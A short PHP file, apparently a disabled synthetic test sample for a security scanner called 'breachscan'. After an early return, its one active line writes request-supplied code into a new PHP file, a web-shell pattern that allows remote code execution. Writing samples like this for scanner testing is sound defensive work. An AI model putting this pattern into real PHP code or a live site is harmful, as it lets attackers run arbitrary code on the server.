<?php
// synthetic test sample for breachscan: request data written into a new PHP file. Disabled.
return;
file_put_contents('code-cache.php', '<?php ' . $_REQUEST['code'] . ' ?>');
